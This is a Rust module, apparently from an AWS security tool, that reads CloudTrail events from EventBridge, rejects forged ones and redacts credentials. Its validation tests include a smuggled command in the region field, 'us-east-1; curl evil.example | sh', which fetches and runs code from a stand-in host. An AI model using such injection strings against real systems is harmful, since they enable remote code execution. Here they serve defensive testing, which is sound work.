//! A CloudTrail event: the record of one API call, in the envelope in which EventBridge delivers it.
//!
//! Record fields: <https://docs.aws.amazon.com/awscloudtrail/latest/userguide/cloudtrail-event-reference-record-contents.html>

use std::fmt;

use aws_lambda_events::eventbridge::EventBridgeEvent;
use jiff::Timestamp;
use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::json;
use crate::partition::Partition;
use crate::policy::is_account;

/// What an API call under CloudTrail arrives as.
pub const API_CALL: &str = "AWS API Call via CloudTrail";

/// What arrives as this AWS has done or seen by itself; nobody has called for it.
/// <https://docs.aws.amazon.com/awscloudtrail/latest/userguide/non-api-aws-service-events.html>
pub const SERVICE_EVENT: &str = "AWS Service Event via CloudTrail";

/// What a sign-in to the console arrives as. AWS documents the first, and rules in use have either.
/// <https://docs.aws.amazon.com/eventbridge/latest/ref/events-ref-signin.html>
const SIGN_IN: [&str; 2] = ["AWS Console Sign In via CloudTrail", "AWS Console Signin via CloudTrail"];

/// What CloudTrail Insights arrive as: an unusual rate of calls or errors begins or ends. Such a record has no name.
/// <https://docs.aws.amazon.com/awscloudtrail/latest/userguide/cloudtrail-insights-fields-trails.html>
const INSIGHTS: &str = "AWS Insight via CloudTrail";

/// What stands for the name of one, its `eventType`.
pub const INSIGHT: &str = "AwsCloudTrailInsight";

/// What a record calls it if the caller lacked the right to make the call.
pub const DENIED: [&str; 4] =
    ["AccessDenied", "AccessDeniedException", "Client.UnauthorizedOperation", "UnauthorizedOperation"];

/// What a schedule of EventBridge sends.
/// <https://docs.aws.amazon.com/eventbridge/latest/userguide/eb-run-lambda-schedule.html>
pub const SCHEDULED: &str = "Scheduled Event";

/// The field in which an event that is handed to a function again says what the function failed with before. EventBridge
/// has no such field, so only those have it whom the redrive function hands over, or who may invoke a function anyway.
pub const FAILED_BEFORE: &str = "snapback-failed-before";

/// The field by which an event says that it comes out of a queue, which the redrive function writes: whoever may send to one
/// chooses who it says has made the call.
pub const FROM_A_QUEUE: &str = "snapback-from-a-queue";

/// The field by which an event says that it comes out of a log file of which nothing shows that CloudTrail has written it:
/// whoever has, chooses what it tells.
pub const UNPROVEN: &str = "snapback-unproven";

/// What an event tells of.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub enum Kind {
    #[default]
    ApiCall,
    ServiceEvent,
    /// Somebody has signed in to the console, or tried to.
    SignIn,
    /// CloudTrail has found an unusual rate of calls or errors.
    Insight,
    /// An API call that AWS has refused, as the caller lacked the right. Nothing has changed.
    DeniedCall,
    /// Nothing has happened, and somebody looks at what there is.
    Look,
}

#[derive(Debug, Clone)]
pub struct Event {
    /// `aws.s3`: who put the event on the bus. Only AWS can use a name that starts with `aws.`.
    pub source: String,
    pub detail_type: String,
    /// The account whose bus the event came over.
    pub envelope_account: String,
    pub kind: Kind,
    pub id: String,
    pub time: Timestamp,
    /// `s3.amazonaws.com`
    pub service: String,
    /// `PutBucketPolicy`
    pub name: String,
    pub region: String,
    /// The account in which the call took effect: `recipientAccountId`.
    pub account: String,
    pub error_code: Option<String>,
    /// What the call was given, or what a service event, a sign-in or an insight tells besides. Of a denied call, which is recorded
    /// without what it was given, AWS's message as a text. Without credentials, as is the response: nothing behind this
    /// sees them, and the journal keeps both.
    pub request: Value,
    pub response: Value,
    /// ARNs of what was called upon, where the record names them.
    pub resources: Vec<String>,
    /// Which other record tells of the same call in full, if this one does not concern the account.
    pub elsewhere: Option<String>,
    pub actor: Actor,
    /// What an earlier delivery failed with ([`FAILED_BEFORE`]).
    pub failed_before: Option<String>,
    /// Whether it comes out of a queue ([`FROM_A_QUEUE`]).
    pub is_from_a_queue: bool,
    /// Whether somebody else than CloudTrail may have written it ([`UNPROVEN`]).
    pub is_unproven: bool,
}

/// Who made the call, as far as the record tells.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Actor {
    /// `userIdentity.type`: `Root`, `IAMUser`, `AssumedRole`, `AWSService`, …
    pub kind: String,
    pub arn: Option<String>,
    pub account: Option<String>,
    /// The user's or the role's name.
    pub name: Option<String>,
    /// The ARN of an assumed role.
    pub role: Option<String>,
    /// What the caller called the session of an assumed role: chosen by the caller, so never proof of who it was.
    pub session: Option<String>,
    pub access_key: Option<String>,
    pub source_address: Option<String>,
    /// The VPC endpoint that the call came through. Then the address is one of the VPC's, as its owner chose it.
    pub vpc_endpoint: Option<String>,
    pub user_agent: Option<String>,
    /// The AWS service that called on somebody's behalf.
    pub invoked_by: Option<String>,
    pub mfa: bool,
    pub console: bool,
    /// Whether the management account acts as the root user of this account.
    /// <https://docs.aws.amazon.com/IAM/latest/UserGuide/cloudtrail-track-privileged-tasks.html>
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub assumed_root: bool,
}

/// Why a text is not an event: which field, what was expected, what was there.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Malformed {
    /// Nothing if it is all of the text.
    pub field: String,
    pub expected: &'static str,
    pub found: String,
}

/// Why an event is none of ours to act on.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Refusal {
    /// Anyone who may put events on the bus can write an event that looks like CloudTrail's.
    Forged(String),
    /// The call failed, so nothing has changed.
    Failed(String),
    /// Another record tells of the same call, where it counts.
    Elsewhere(String),
}

impl Event {
    /// Reads an event as EventBridge delivers it.
    ///
    /// # Errors
    /// When a field without which nothing can be said is missing or of another type.
    pub fn from_envelope(envelope: Value) -> Result<Self, Malformed> {
        if json::text(&envelope, "detail-type") == Some(SCHEDULED) {
            return Self::from_schedule(&envelope);
        }
        let expected = "an EventBridge event with `source`, `detail-type` and `detail`";
        if !envelope.is_object() || envelope.get("detail").is_none() {
            let found = if envelope.is_object() { "an object without `detail`" } else { json::kind(&envelope) };
            return Err(Malformed { field: String::new(), expected, found: found.to_owned() });
        }
        required(&envelope, "source", "the name of a source such as `aws.s3`")?;
        required(&envelope, "detail-type", "a type such as `AWS API Call via CloudTrail`")?;
        let failed_before = json::text(&envelope, FAILED_BEFORE).map(str::to_owned);
        let [is_from_a_queue, is_unproven] = [FROM_A_QUEUE, UNPROVEN].map(|field| !envelope[field].is_null());
        let envelope: EventBridgeEvent<Value> = serde_path_to_error::deserialize(envelope).map_err(|error| {
            let (field, found) = (error.path().to_string(), json::said(error.inner()));
            Malformed { field, expected: "what EventBridge writes there", found }
        })?;
        let mut event = Self::from_record(envelope.detail)?;
        event.source = envelope.source;
        event.detail_type = envelope.detail_type;
        event.envelope_account = envelope.account.unwrap_or_default();
        (event.failed_before, event.is_from_a_queue, event.is_unproven) = (failed_before, is_from_a_queue, is_unproven);
        Ok(event)
    }

    /// Reads what a schedule sends: that it is time to look, and nothing else.
    fn from_schedule(envelope: &Value) -> Result<Self, Malformed> {
        let account = json::text(envelope, "account").unwrap_or_default();
        let region = required(envelope, "region", "a Region such as `eu-central-1`")?;
        let time = moment("time", required(envelope, "time", A_TIME)?)?;
        let source = json::text(envelope, "source").unwrap_or_default().to_owned();
        let id = required(envelope, "id", "the event's UUID")?;
        Ok(Self { source, id, ..Self::of_a_look(account, &region, time) })
    }

    /// Reads a bare record, as it lies in CloudTrail's log files, in the envelope that AWS would have given it.
    ///
    /// # Errors
    /// When a field without which nothing can be said is missing or of another type.
    pub fn from_record(mut record: Value) -> Result<Self, Malformed> {
        if json::text(&record, "eventType") == Some(INSIGHT) {
            let service = Value::from("cloudtrail.amazonaws.com");
            record["userIdentity"] = serde_json::json!({"type": "AWSService", "invokedBy": service});
            (record["eventSource"], record["eventName"]) = (service, INSIGHT.into());
        }
        let service = required(&record, "eventSource", "a service such as `s3.amazonaws.com`")?;
        let account = json::text(&record, "recipientAccountId")
            .or_else(|| json::text(&record["userIdentity"], "accountId"))
            .unwrap_or_default()
            .to_owned();
        let time = required(&record, "eventTime", A_TIME)?;
        let error_code = json::text(&record, "errorCode").map(str::to_owned);
        let (kind, told) = match json::text(&record, "eventType") {
            Some("AwsServiceEvent") => (Kind::ServiceEvent, "serviceEventDetails"),
            Some(INSIGHT) => (Kind::Insight, "insightDetails"),
            Some("AwsConsoleSignIn" | "AwsConsoleSignin") => (Kind::SignIn, "additionalEventData"),
            _ if error_code.as_ref().is_some_and(|code| DENIED.contains(&code.as_str())) => {
                (Kind::DeniedCall, "errorMessage")
            }
            _ => (Kind::ApiCall, "requestParameters"),
        };
        Ok(Self {
            source: format!("aws.{}", service.trim_end_matches(".amazonaws.com")),
            detail_type: kind.detail_type().to_owned(),
            envelope_account: account.clone(),
            kind,
            // A record that is delivered again has another id, and is of the same call.
            id: match json::text(&record["addendum"], "originalEventID") {
                Some(original) => original.to_owned(),
                None => required(&record, "eventID", "the record's UUID")?,
            },
            elsewhere: elsewhere(&record, &account),
            time: moment("eventTime", time)?,
            service,
            name: required(&record, "eventName", "an API call such as `PutBucketPolicy`")?,
            region: required(&record, "awsRegion", "a Region such as `eu-central-1`")?,
            account,
            error_code,
            resources: json::list(&record["resources"])
                .into_iter()
                .filter_map(|resource| json::text(resource, "ARN").map(str::to_owned))
                .collect(),
            actor: Actor::of(&record),
            failed_before: None,
            is_from_a_queue: false,
            is_unproven: false,
            request: without_credentials(record[told].take()),
            response: without_credentials(record["responseElements"].take()),
        })
    }

    /// What stands for an event where somebody looks at what there is: it tells nothing.
    #[must_use]
    pub fn of_a_look(account: &str, region: &str, time: Timestamp) -> Self {
        let service = "events.amazonaws.com".to_owned();
        Self {
            source: "aws.events".to_owned(),
            detail_type: SCHEDULED.to_owned(),
            envelope_account: account.to_owned(),
            kind: Kind::Look,
            id: format!("look-{time}"),
            time,
            name: SCHEDULED.to_owned(),
            region: region.to_owned(),
            account: account.to_owned(),
            error_code: None,
            request: Value::Null,
            response: Value::Null,
            resources: vec![],
            elsewhere: None,
            failed_before: None,
            is_from_a_queue: false,
            is_unproven: false,
            actor: Actor { kind: "AWSService".to_owned(), invoked_by: Some(service.clone()), ..Actor::default() },
            service,
        }
    }

    /// Whether AWS itself says that this happened in the account that the record names.
    ///
    /// # Errors
    /// Why the event is not to be acted on.
    pub fn admit(&self) -> Result<(), Refusal> {
        let forged = |why: String| Err(Refusal::Forged(why));
        if self.source != format!("aws.{}", self.service.trim_end_matches(".amazonaws.com")) {
            return forged(format!("its source `{}` is not that of `{}`", self.source, self.service));
        }
        let is_of_kind = self.kind.detail_types().contains(&self.detail_type.as_str());
        if !is_of_kind || (self.name == SCHEDULED) != self.is_look() {
            return forged(format!("its detail-type is `{}`, which does not fit its record", self.detail_type));
        }
        if self.account.is_empty() || self.envelope_account != self.account {
            return forged(format!(
                "it came over the bus of account `{}` and speaks of account `{}`",
                self.envelope_account, self.account
            ));
        }
        // Both stand in links and in commands that people copy, and name the resource that is looked at.
        if !is_account(&self.account) || !is_region(&self.region) {
            return forged(format!("there is no account `{}` or no Region `{}`", self.account, self.region));
        }
        match (&self.elsewhere, &self.error_code) {
            (Some(why), _) => Err(Refusal::Elsewhere(why.clone())),
            (None, Some(code)) if self.kind != Kind::DeniedCall => Err(Refusal::Failed(code.clone())),
            (None, _) => Ok(()),
        }
    }

    /// Whether a schedule says that it is time to look. Nobody has done anything then.
    #[must_use]
    pub fn is_look(&self) -> bool {
        self.kind == Kind::Look
    }

    /// Whether a call for a session may give it a policy. A federation token without one may do nothing by itself.
    #[must_use]
    pub fn gives_a_session_policy(&self) -> bool {
        let has = |field: &str| self.request.get(field).is_some_and(|policy| !policy.is_null());
        json::is_left_out(&self.request) || has("policy") || has("policyArns")
    }

    /// The partition in which the event's Region lies, for ARNs and console links.
    #[must_use]
    pub fn partition(&self) -> &'static str {
        Partition::of_region(&self.region).name()
    }
}

impl Kind {
    #[must_use]
    pub fn is_api_call(&self) -> bool {
        *self == Self::ApiCall
    }

    /// What EventBridge calls it, in each spelling.
    #[must_use]
    pub fn detail_types(self) -> &'static [&'static str] {
        match self {
            Self::ApiCall | Self::DeniedCall => &[API_CALL],
            Self::ServiceEvent => &[SERVICE_EVENT],
            Self::SignIn => &SIGN_IN,
            Self::Insight => &[INSIGHTS],
            Self::Look => &[SCHEDULED],
        }
    }

    /// The same in the spelling that AWS documents.
    #[must_use]
    pub fn detail_type(self) -> &'static str {
        self.detail_types()[0]
    }
}

impl Actor {
    fn of(record: &Value) -> Self {
        let identity = &record["userIdentity"];
        let context = &identity["sessionContext"];
        let owned = |value: &Value, field: &str| json::text(value, field).map(str::to_owned);
        let kind = owned(identity, "type").unwrap_or_else(|| UNKNOWN.to_owned());
        Self {
            name: owned(&context["sessionIssuer"], "userName").or_else(|| owned(identity, "userName")),
            role: owned(&context["sessionIssuer"], "arn"),
            session: (kind == "AssumedRole")
                .then(|| json::text(identity, "arn")?.rsplit('/').next().map(str::to_owned))
                .flatten(),
            arn: owned(identity, "arn"),
            account: owned(identity, "accountId"),
            access_key: owned(identity, "accessKeyId"),
            source_address: owned(record, "sourceIPAddress"),
            vpc_endpoint: owned(record, "vpcEndpointId"),
            user_agent: owned(record, "userAgent"),
            invoked_by: owned(identity, "invokedBy"),
            mfa: json::is_true(&context["attributes"]["mfaAuthenticated"]),
            console: json::is_true(&record["sessionCredentialFromConsole"]),
            assumed_root: json::is_true(&context["assumedRoot"]),
            kind,
        }
    }

    /// Whether an AWS service has acted by itself, with nobody's credentials.
    #[must_use]
    pub fn is_aws(&self) -> bool {
        self.kind == "AWSService"
    }

    /// Whether the account's root user has called, and no service on its behalf.
    #[must_use]
    pub fn is_root(&self) -> bool {
        self.kind == "Root" && self.invoked_by.is_none()
    }
}

/// The kind of a caller of whom the record says nothing.
const UNKNOWN: &str = "Unknown";

impl fmt::Display for Actor {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = self.name.as_deref().unwrap_or("?");
        match (self.kind.as_str(), &self.session) {
            ("Root", _) => {
                let account = self.account.as_deref().unwrap_or("?");
                let who = if self.assumed_root { "the management account as root" } else { "the root user" };
                write!(f, "{who} of account {account}")
            }
            ("IAMUser", _) => write!(f, "IAM user `{name}`"),
            ("AssumedRole", Some(session)) => write!(f, "role `{name}` in session `{session}`"),
            ("AWSService", _) => write!(f, "AWS service {}", self.invoked_by.as_deref().unwrap_or("?")),
            (kind, _) => {
                let who = [&self.arn, &self.account, &self.name].into_iter().flatten().next();
                match (kind, who) {
                    (UNKNOWN, None) => f.write_str("an unknown caller"),
                    (UNKNOWN, Some(who)) => write!(f, "an unknown caller, `{who}`"),
                    (kind, _) => write!(f, "{kind} `{}`", who.map_or("?", String::as_str)),
                }
            }
        }
    }
}

impl fmt::Display for Malformed {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self { field, expected, found } = self;
        if !field.is_empty() {
            write!(f, "field `{field}`: ")?;
        }
        write!(f, "expected {expected}, found {found}")
    }
}

impl std::error::Error for Malformed {}

/// What the names of fields end with that hold a credential, in lower case.
const CREDENTIALS: [&str; 10] = [
    "secretaccesskey",
    "secretkey",
    "clientsecret",
    "secretstring",
    "secretbinary",
    "password",
    "token",
    "privatekey",
    "keymaterial",
    "plaintext",
];

/// The same with a mark in place of each credential. CloudTrail hides most of them itself, but not all: the answer to
/// `AssumeRole` has the session's token.
fn without_credentials(value: Value) -> Value {
    let is_credential = |name: &str| CREDENTIALS.iter().any(|end| name.to_lowercase().ends_with(end));
    match value {
        Value::Object(fields) => fields
            .into_iter()
            .map(|(name, value)| {
                let value = if is_credential(&name) { "(not kept)".into() } else { without_credentials(value) };
                (name, value)
            })
            .collect(),
        Value::Array(elements) => elements.into_iter().map(without_credentials).collect(),
        other => other,
    }
}

/// What CloudTrail calls records that sum calls up or repeat them without their parameters, by `eventType`.
/// <https://docs.aws.amazon.com/awscloudtrail/latest/userguide/cloudtrail-event-reference-record-contents.html>
const REPEATING: [&str; 3] = ["AwsAggregatedEvent", "AwsCloudTrailInsight", "AwsVpceEvent"];

/// Whether a record is none of a call: CloudTrail sums calls up and repeats them, under names of their own.
#[must_use]
pub fn is_repeating(event_type: Option<&str>, event_category: Option<&str>) -> bool {
    event_type.is_some_and(|kind| REPEATING.contains(&kind))
        || event_category.is_some_and(|category| !["Management", "Data"].contains(&category))
}

/// Of a call upon a resource of another account, the caller's account has a copy, which is not for it to act on: the
/// owner's has its own, with another id.
fn elsewhere(record: &Value, account: &str) -> Option<String> {
    let (kind, category) = (json::text(record, "eventType"), json::text(record, "eventCategory"));
    // An insight sums calls up, and that there are so many is told nowhere else.
    if kind != Some(INSIGHT) && is_repeating(kind, category) {
        return Some("CloudTrail has another record of the same call, with its parameters".to_owned());
    }
    let is_callers = json::text(&record["userIdentity"], "accountId") == Some(account);
    let resources = json::list(&record["resources"]);
    let owners: Vec<&str> = resources.into_iter().filter_map(|resource| json::text(resource, "accountId")).collect();
    let owner = owners.first().filter(|_| is_callers && !owners.contains(&account))?;
    let owner = if is_account(owner) { format!("account {owner}") } else { "another account".to_owned() };
    Some(format!("it is the caller's copy of a call upon a resource of {owner}"))
}

const A_TIME: &str = "a time such as `2026-01-31T12:00:00Z`";

fn moment(field: &'static str, text: String) -> Result<Timestamp, Malformed> {
    text.parse().map_err(|_| Malformed { field: field.to_owned(), expected: A_TIME, found: text })
}

/// Whether it has the form of a Region's name, such as `us-gov-west-1`. Which there are changes.
#[must_use]
pub fn is_region(name: &str) -> bool {
    name.starts_with(|char: char| char.is_ascii_lowercase())
        && name.chars().all(|char| char.is_ascii_lowercase() || char.is_ascii_digit() || char == '-')
}

fn required(record: &Value, field: &'static str, expected: &'static str) -> Result<String, Malformed> {
    json::text(record, field).map(str::to_owned).ok_or_else(|| Malformed {
        field: field.to_owned(),
        expected,
        found: record.get(field).map_or_else(|| "nothing".to_owned(), |found| format!("`{found}`")),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn envelope() -> Value {
        json!({
            "source": "aws.s3", "detail-type": API_CALL, "account": "111122223333", "region": "eu-central-1",
            "detail": {
                "eventID": "e-1", "eventTime": "2026-01-31T12:00:00Z", "eventSource": "s3.amazonaws.com",
                "eventName": "PutBucketPolicy", "awsRegion": "eu-central-1", "recipientAccountId": "111122223333",
                "userIdentity": {
                    "type": "AssumedRole", "arn": "arn:aws:sts::111122223333:assumed-role/Admin/alice",
                    "accountId": "111122223333",
                    "sessionContext": {
                        "sessionIssuer": {"userName": "Admin"}, "attributes": {"mfaAuthenticated": "true"},
                    },
                },
                "sessionCredentialFromConsole": "true", "requestParameters": {"bucketName": "b"},
            },
        })
    }

    fn changed(pointer: &str, value: Value) -> Event {
        let mut envelope = envelope();
        *envelope.pointer_mut(pointer).expect("the field is there") = value;
        Event::from_envelope(envelope).expect("still an event")
    }

    #[test]
    fn a_caller_of_whom_the_record_says_nothing_is_unknown() {
        let caller = |identity: Value| {
            let mut envelope = envelope();
            envelope["detail"]["userIdentity"] = identity;
            Event::from_envelope(envelope).expect("an event").actor.to_string()
        };
        assert_eq!(caller(json!({})), "an unknown caller");
        assert_eq!(caller(json!({"accountId": "111122223333"})), "an unknown caller, `111122223333`");
        let account = json!({"type": "AWSAccount", "accountId": "444455556666"});
        assert_eq!(caller(account), "AWSAccount `444455556666`");
    }

    #[test]
    fn an_event_tells_who_what_where_and_when() {
        let event = Event::from_envelope(envelope()).expect("an event");
        assert_eq!(event.actor.to_string(), "role `Admin` in session `alice`");
        assert!(event.actor.mfa && event.actor.console);
        assert_eq!(event.request["bucketName"], "b");
        assert_eq!(event.admit(), Ok(()));
    }

    #[test]
    fn what_aws_did_not_send_is_refused() {
        for forged in [
            changed("/source", json!("custom.s3")),
            changed("/source", json!("aws.ec2")),
            changed("/detail-type", json!("Object Created")),
            changed("/detail-type", json!(SERVICE_EVENT)),
            changed("/account", json!("444455556666")),
            changed("/detail/recipientAccountId", json!("444455556666")),
            changed("/detail/awsRegion", json!("evil.example/")),
            changed("/detail/awsRegion", json!("us-east-1; curl evil.example | sh")),
            changed("/detail/awsRegion", json!("--help")),
        ] {
            assert!(matches!(forged.admit(), Err(Refusal::Forged(_))), "{forged:?}");
        }
    }

    #[test]
    fn what_aws_reports_by_itself_is_read_and_is_no_api_call() {
        let mut envelope = envelope();
        envelope["detail-type"] = json!(SERVICE_EVENT);
        envelope["detail"]["eventType"] = json!("AwsServiceEvent");
        envelope["detail"]["serviceEventDetails"] = json!({"snapshotId": "snap-1"});
        let event = Event::from_envelope(envelope.clone()).expect("an event");
        assert_eq!((event.kind, event.request["snapshotId"].as_str()), (Kind::ServiceEvent, Some("snap-1")));
        assert_eq!(event.admit(), Ok(()));
        envelope["detail-type"] = json!(API_CALL);
        let forged = Event::from_envelope(envelope).expect("an event");
        assert!(matches!(forged.admit(), Err(Refusal::Forged(_))), "{forged:?}");
    }

    #[test]
    fn a_schedule_only_says_that_it_is_time_to_look() {
        let scheduled = json!({
            "source": "aws.events", "detail-type": SCHEDULED, "account": "111122223333", "region": "eu-central-1",
            "id": "e-2", "time": "2026-01-31T12:00:00Z", "resources": [], "detail": {"eventName": "PutBucketPolicy"},
        });
        let event = Event::from_envelope(scheduled.clone()).expect("an event");
        assert!(event.is_look() && event.request.is_null());
        assert_eq!(event.admit(), Ok(()));
        for (field, value) in [("source", "custom"), ("account", "")] {
            let mut forged = scheduled.clone();
            forged[field] = json!(value);
            let event = Event::from_envelope(forged).expect("still an event");
            assert!(matches!(event.admit(), Err(Refusal::Forged(_))), "{field}");
        }
        let record = changed("/detail/eventName", json!(SCHEDULED));
        assert!(matches!(record.admit(), Err(Refusal::Forged(_))), "a call of that name");
    }

    #[test]
    fn the_callers_copy_of_a_call_on_anothers_resource_concerns_the_other() {
        let resource = |account: &str| json!({"ARN": "arn:aws:s3:::b", "accountId": account});
        let nameless = json!({"ARNPrefix": "arn:aws:s3:::b/"});
        for (caller, resources, is_elsewhere) in [
            ("111122223333", json!([resource("444455556666")]), true),
            ("111122223333", json!([nameless, resource("HIDDEN_DUE_TO_SECURITY_REASONS")]), true),
            ("111122223333", json!([resource("444455556666"), resource("111122223333")]), false),
            ("111122223333", json!([resource("111122223333")]), false),
            ("111122223333", json!([nameless]), false),
            ("444455556666", json!([resource("111122223333")]), false),
        ] {
            let mut envelope = envelope();
            envelope["detail"]["userIdentity"]["accountId"] = json!(caller);
            envelope["detail"]["resources"] = resources.clone();
            envelope["detail"]["sharedEventID"] = json!("s-1");
            let admitted = Event::from_envelope(envelope).expect("an event").admit();
            assert_eq!(matches!(admitted, Err(Refusal::Elsewhere(_))), is_elsewhere, "{caller} {resources}");
        }
    }

    #[test]
    fn what_only_repeats_a_call_is_told_elsewhere() {
        for (field, value) in [
            ("eventType", "AwsVpceEvent"),
            ("eventCategory", "NetworkActivity"),
            ("eventCategory", "Insight"),
            ("eventCategory", "Aggregated"),
        ] {
            let mut envelope = envelope();
            envelope["detail"][field] = json!(value);
            let admitted = Event::from_envelope(envelope).expect("an event").admit();
            assert!(matches!(admitted, Err(Refusal::Elsewhere(_))), "{field} {value}: {admitted:?}");
        }
        for category in ["Management", "Data"] {
            let mut envelope = envelope();
            envelope["detail"]["eventCategory"] = json!(category);
            assert_eq!(Event::from_envelope(envelope).expect("an event").admit(), Ok(()), "{category}");
        }
    }

    #[test]
    fn a_record_that_is_delivered_again_is_of_the_same_event() {
        let mut envelope = envelope();
        envelope["detail"]["eventID"] = json!("e-2");
        envelope["detail"]["addendum"] = json!({"reason": "DELIVERY_DELAY", "originalEventID": "e-1"});
        assert_eq!(Event::from_envelope(envelope.clone()).expect("an event").id, "e-1");
        envelope["detail"]["addendum"] = json!({"reason": "DELIVERY_DELAY"});
        assert_eq!(Event::from_envelope(envelope).expect("an event").id, "e-2");
    }

    #[test]
    fn a_failed_call_has_changed_nothing() {
        let mut envelope = envelope();
        envelope["detail"]["errorCode"] = json!("NoSuchBucket");
        let event = Event::from_envelope(envelope).expect("an event");
        assert_eq!(event.admit(), Err(Refusal::Failed("NoSuchBucket".to_owned())));
    }

    #[test]
    fn a_denied_call_is_an_event_of_its_own_kind_and_tells_what_aws_said() {
        for code in DENIED {
            let mut envelope = envelope();
            envelope["detail"]["errorCode"] = json!(code);
            envelope["detail"]["errorMessage"] = json!("User: x is not authorized to perform: s3:PutBucketPolicy");
            let event = Event::from_envelope(envelope).expect("an event");
            assert_eq!((event.kind, event.admit()), (Kind::DeniedCall, Ok(())), "{code}");
            assert_eq!(event.request, "User: x is not authorized to perform: s3:PutBucketPolicy");
        }
    }

    #[test]
    fn a_sign_in_is_read_in_both_spellings_from_whatever_region_it_comes() {
        for (event_type, detail_type, region) in [
            ("AwsConsoleSignIn", SIGN_IN[0], "us-east-1"),
            ("AwsConsoleSignin", SIGN_IN[1], "eu-north-1"),
            ("AwsConsoleSignIn", SIGN_IN[1], "ap-southeast-2"),
        ] {
            let mut envelope = envelope();
            (envelope["source"], envelope["detail-type"]) = (json!("aws.signin"), json!(detail_type));
            envelope["detail"]["eventSource"] = json!("signin.amazonaws.com");
            envelope["detail"]["eventType"] = json!(event_type);
            envelope["detail"]["awsRegion"] = json!(region);
            envelope["detail"]["additionalEventData"] = json!({"MFAUsed": "No"});
            let event = Event::from_envelope(envelope.clone()).expect("an event");
            assert_eq!((event.kind, event.admit()), (Kind::SignIn, Ok(())), "{event_type} {detail_type} {region}");
            assert_eq!(event.request["MFAUsed"], "No");
            envelope["detail-type"] = json!(API_CALL);
            let forged = Event::from_envelope(envelope).expect("an event");
            assert!(matches!(forged.admit(), Err(Refusal::Forged(_))), "{forged:?}");
        }
    }

    #[test]
    fn root_is_who_calls_by_itself_and_not_a_service_on_its_behalf() {
        let by = |identity: Value| changed("/detail/userIdentity", identity).actor;
        let root = json!({"type": "Root", "accountId": "111122223333"});
        assert!(by(root.clone()).is_root());
        let through = json!({"type": "Root", "accountId": "111122223333", "invokedBy": "support.amazonaws.com"});
        assert!(!by(through).is_root());
        assert!(!by(json!({"type": "IAMUser", "userName": "Root"})).is_root());
        for flag in [json!("true"), json!(true)] {
            let mut assumed = root.clone();
            assumed["sessionContext"] = json!({"assumedRoot": flag});
            let actor = by(assumed);
            assert!(actor.is_root() && actor.assumed_root);
            let said = "the management account as root of account 111122223333";
            assert_eq!(actor.to_string(), said);
        }
    }

    #[test]
    fn credentials_end_at_the_door() {
        let mut envelope = envelope();
        envelope["detail"]["requestParameters"] = json!({"userName": "mallory", "Password": "hunter2"});
        envelope["detail"]["responseElements"] = json!({
            "credentials": {"accessKeyId": "ASIAIOSFODNN7EXAMPLE", "sessionToken": "FwoGZXIvYXdzEXAMPLE"},
            "keys": [{"secretAccessKey": {"value": "wJalrXUtnFEMI/EXAMPLEKEY"}, "status": "Active"}],
        });
        let event = Event::from_envelope(envelope).expect("an event");
        assert_eq!(event.request, json!({"userName": "mallory", "Password": "(not kept)"}));
        let kept = json!({
            "credentials": {"accessKeyId": "ASIAIOSFODNN7EXAMPLE", "sessionToken": "(not kept)"},
            "keys": [{"secretAccessKey": "(not kept)", "status": "Active"}],
        });
        assert_eq!(event.response, kept);
    }

    #[test]
    fn an_insight_is_told_by_cloudtrail_and_by_nobody_else() {
        let mut envelope = envelope();
        (envelope["source"], envelope["detail-type"]) = (json!("aws.cloudtrail"), json!(INSIGHTS));
        for field in ["eventSource", "eventName", "userIdentity", "requestParameters"] {
            envelope["detail"].as_object_mut().expect("a record").remove(field);
        }
        envelope["detail"]["eventType"] = json!(INSIGHT);
        envelope["detail"]["insightDetails"] = json!({"state": "Start"});
        let event = Event::from_envelope(envelope.clone()).expect("an event");
        assert_eq!((event.admit(), event.kind, event.name.as_str()), (Ok(()), Kind::Insight, INSIGHT));
        assert_eq!((event.request["state"].as_str(), event.actor.is_aws()), (Some("Start"), true));
        envelope["detail-type"] = json!(API_CALL);
        let forged = Event::from_envelope(envelope).expect("an event").admit();
        assert!(matches!(forged, Err(Refusal::Forged(_))), "{forged:?}");
    }

    #[test]
    fn bad_input_is_told_by_field_and_expectation() {
        let mut envelope = envelope();
        envelope["detail"]["eventTime"] = json!("yesterday");
        let error = Event::from_envelope(envelope.clone()).expect_err("no time");
        assert_eq!(
            error.to_string(),
            "field `eventTime`: expected a time such as `2026-01-31T12:00:00Z`, found yesterday"
        );
        let error = Event::from_envelope(json!({"source": "aws.s3"})).expect_err("no detail");
        assert!(error.to_string().ends_with("found an object without `detail`"), "{error}");
        assert!(Event::from_envelope(json!([1])).is_err_and(|error| error.found == "a list"));
        for (field, found) in [("source", Value::Null), ("detail-type", json!(5)), ("time", json!(5))] {
            let mut other = envelope.clone();
            other[field] = found;
            assert_eq!(Event::from_envelope(other).expect_err("another type").field, field);
        }
    }
}
